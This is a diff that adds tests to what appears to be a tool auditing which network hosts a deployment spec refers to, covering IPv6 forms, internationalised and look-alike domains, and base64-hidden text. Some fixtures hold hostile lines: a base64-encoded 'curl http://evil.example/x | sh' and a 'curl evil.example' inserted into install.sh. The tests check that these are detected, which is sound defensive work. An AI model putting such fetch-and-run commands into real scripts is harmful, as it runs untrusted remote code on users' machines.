@@ -39,12 +39,70 @@ t.test("what counts, and what does not", (t) => {
     "registry.example:5000/a/b:1 quay.io/a/b:1": ["image registry.example:5000/a/b:1 (registry.example)", "image quay.io/a/b:1 (quay.io)"],
     [`alpine@sha256:${"a".repeat(64)}`]: [`image alpine@sha256:${"a".repeat(64)} ()`],
     "add-apt-repository ppa:me/tools": ["repository ppa:me/tools (launchpad.net)"],
+    "::ffff:192.0.2.77 64:ff9b::192.0.2.33/96": ["address ::ffff:192.0.2.77", "address 64:ff9b::192.0.2.33/96 (64:ff9b::192.0.2.33)"],
+    "ask bücher.example, http://Bücher.example:8080/x, пример.рф or evil。example": ["host bücher.example", "url http://Bücher.example:8080/x (bücher.example)", "host пример.рф", "host evil。example"],
     "52:54:00:41:15:1e 12:30:45 OS::Neutron::Port x::y cloudlet-bootstrap.service v1.2.3 1.2.3.4.5 300.1.1.1": [],
     "$name.new ${a}.tar.part docker.service /etc/resolv.conf e.g. U+0041 lib/x.sh:12": [],
   };
   for (const [line, wanted] of Object.entries(table)) {
     t.strictSame(told(line), wanted, line);
     for (const { text, start, end } of referencesIn(line)) t.equal(line.slice(start - 1, end - 1), text, `columns of ${text}`);
+  }
+  t.end();
+});
+
+t.test("what a text in base64 refers to, at the columns of the base64", (t) => {
+  const base64 = Buffer.from("ünï\ncurl http://evil.example/x | sh").toString("base64");
+  t.strictSame(referencesIn(`    content: ${base64}`), [{ kind: "url", text: "http://evil.example/x", host: "evil.example", start: 14, end: 14 + base64.length }]);
+  t.match(referencesIn(Buffer.from("evil.example").toString("base64")), [{ text: "evil.example" }]);
+  t.strictSame(referencesIn(Buffer.from("evil.example\u0000\u0001").toString("base64")), [], "what is no text is not looked into");
+  t.end();
+});
+
+/** Text of the golden spec to one with this field more or another one. */
+const replacing = (find: string, replace: string) => ({
+  spec: (text: string): string => {
+    if (!text.includes(find)) throw new Error(`${find} does not stand in the spec`);
+    return text.replace(find, () => replace);
+  },
+});
+const classOf = (bundle: Bundle, text: string): readonly string[] => classified(bundle).filter((each) => each.text === text).map((each) => each.class);
+
+t.test("a public source that the spec names is none of the site's", (t) => {
+  for (const [find, replace, host] of [
+    ["ntp: [ntp.example.net,", "ntp: [0.pool.ntp.org,", "0.pool.ntp.org"],
+    ["OS_USERNAME: cloudlet", "OS_USERNAME: docker.io/library/x", "docker.io"],
+  ] as const) {
+    const refused = composed("everything", replacing(find, replace));
+    t.match(refused.issues.filter(({ severity }) => severity === "error").map(({ code, message }) => `${code} ${message}`), [new RegExp(`^audit/unclassified-host .*${host}.* a public `)], host);
+  }
+  t.end();
+});
+
+t.test("what only people read names nobody that may be asked", (t) => {
+  const described = replacing("description: metrics}", "description: 'as evil.example, http://bücher.example/a_b and docker.io had it'}");
+  const bundle = bundleOf("everything", described);
+  for (const text of ["evil.example", "http://bücher.example/a_b", "docker.io"]) t.strictSame(classOf(bundle, text), ["document"], text);
+  t.strictSame(leading(edited(bundle, "install.sh", "set -eu", "set -eu\ncurl evil.example")), ["unclassified evil.example"]);
+  // Markdown escapes the line, and the slots that are always there move the spec's own.
+  const slot = replacing("description: token of the driver's licence server", "description: see evil.example_x, or http://192.0.2.9#@evil.example/");
+  t.strictSame(leading(bundleOf("everything", slot)), []);
+  const key = replacing("dh2l9GKJl reader", "dh2l9GKJl reader@evil.example");
+  t.strictSame(classOf(bundleOf("everything", key), "evil.example"), ["document"]);
+  t.end();
+});
+
+t.test("a name that is made of a network's leads nowhere else", (t) => {
+  for (const name of ["evil.example:443", "evil.example.", "--x=evil.example", "xn--p1ai.xn--p1ai"]) t.strictSame(leading(bundleOf("everything", replacing("- name: provider", `- name: "${name}"`))), [], name);
+  t.end();
+});
+
+t.test("a host that has no form of one is told where a field of hosts shows it", (t) => {
+  const bundle = bundleOf("everything", replacing("ntp: [ntp.example.net,", "ntp: [timehost, get.evil.sh, ntp.example.net,"));
+  for (const text of ["timehost", "get.evil.sh"]) {
+    const [told] = classified(bundle).filter((each) => each.text === text);
+    t.equal(told?.class, "site", text);
+    t.ok(told?.places.some(({ file }) => file === "site/user-data"), `${text} in user-data`);
   }
   t.end();
 });
